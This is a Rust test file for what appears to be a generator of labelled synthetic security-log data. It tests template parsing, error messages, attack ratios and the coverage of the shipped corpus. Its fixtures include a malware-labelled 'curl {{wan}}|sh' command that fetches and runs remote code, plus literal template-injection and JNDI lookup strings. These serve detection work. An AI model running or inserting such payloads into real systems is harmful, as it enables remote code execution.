//! The format, the drawing, and what the shipped files must hold.

use std::fs;

use super::{Corpus, check, folder};

/// A corpus of one product file.
fn corpus(product: &str) -> anyhow::Result<Corpus> {
    let folder = tempfile::tempdir()?;
    for sub in ["values", "products"] {
        fs::create_dir(folder.path().join(sub))?;
    }
    let values = "list host\n- h1\nlist command\n- [benign] ls -l \"{{word}}\"\n- [malware high T1105,T1059.004] curl {{wan}}|sh\n";
    fs::write(folder.path().join("values/all.soc"), values)?;
    fs::write(folder.path().join("products/one.soc"), product)?;
    Corpus::read(folder.path())
}

#[test]
fn a_shape_is_written_in_peace_and_under_attack() {
    let text = "product shell\nenvelopes bare\n=json {\"a\":{\"cmd\":\"{{command}}\",\"n\":\"{{one|two}}\"}}\n+ @\n";
    let corpus = corpus(text).unwrap();
    let lines = corpus.draw(1, 200, 0.5);
    assert_eq!(lines, corpus.draw(1, 200, 0.5));
    for line in &lines {
        let json: serde_json::Value = serde_json::from_str(&line.raw).unwrap();
        let command = json["a"]["cmd"].as_str().unwrap();
        assert_eq!(command.starts_with("curl"), line.label.is_malicious(), "{}", line.raw);
        assert_eq!(line.label.techniques.len(), if line.label.is_malicious() { 2 } else { 0 });
    }
    let attacks = lines.iter().filter(|line| line.label.is_malicious()).count();
    assert!((60..140).contains(&attacks), "{attacks}");
    let checked = check(&corpus, 1, 200).unwrap();
    assert!(checked.shape_alone["shell"] < 0.6, "{checked}");
}

#[test]
fn what_is_wrong_is_named_with_its_place() {
    for (text, expected) in [
        ("= no product\n", "one.soc:1"),
        ("product a\n= x\n+ evil high T1\n", "one.soc:3"),
        ("product a\n= x\n+ malware\n", "has a severity"),
        ("product a\n= x\n+ malware high Txyz\n", "names no techniques"),
        ("product a\n= x\n+ benign ;; b\n", "binds nothing"),
        ("product a\nenvelopes paper\n", "no envelope"),
        ("nonsense\n", "begins no line"),
    ] {
        let error = format!("{:#}", corpus(text).unwrap_err());
        assert!(error.contains(expected), "{text}: {error}");
    }
    for (text, expected) in [
        ("product a\n= {{nothing_known}}\n+ benign\n", "neither listed nor made"),
        ("product a\n= x\n", "without a case"),
        ("product a\n= {{wan}}\n+ @\n", "no labelled value"),
        ("product a\n= {{wan}}\n+ benign ;; user=x\n", "bound and not used"),
    ] {
        let error = format!("{:#}", check(&corpus(text).unwrap(), 1, 9).unwrap_err());
        assert!(error.contains(expected), "{text}: {error}");
    }
}

#[test]
fn braces_that_are_no_slots_stay() {
    let text = "product a\nenvelopes bare\n= {\"a\":{\"b\":\"{{7*7}} ${jndi:ldap://x} {{X}}\"}}\n+ benign\n";
    let lines = corpus(text).unwrap().draw(1, 1, 1.0);
    assert_eq!(lines[0].raw, "{\"a\":{\"b\":\"{{7*7}} ${jndi:ldap://x} {{X}}\"}}");
}

#[test]
fn the_shipped_files_are_no_toy() {
    let corpus = Corpus::read(&folder()).unwrap();
    let checked = check(&corpus, 20_261_122, 60_000).unwrap();
    assert!(checked.templates >= 3_000, "{checked}");
    assert!(checked.largest <= 0.005, "{checked}");
    assert!(checked.techniques >= 150, "{checked}");
    for (product, share) in &checked.shape_alone {
        assert!(*share <= 0.75, "{product}: its shapes alone tell {share:.3}");
    }
    let phishing = checked.classes.get("phishing").zip(checked.classes.get("ransomware"));
    assert!(phishing.is_some(), "{checked}");
}
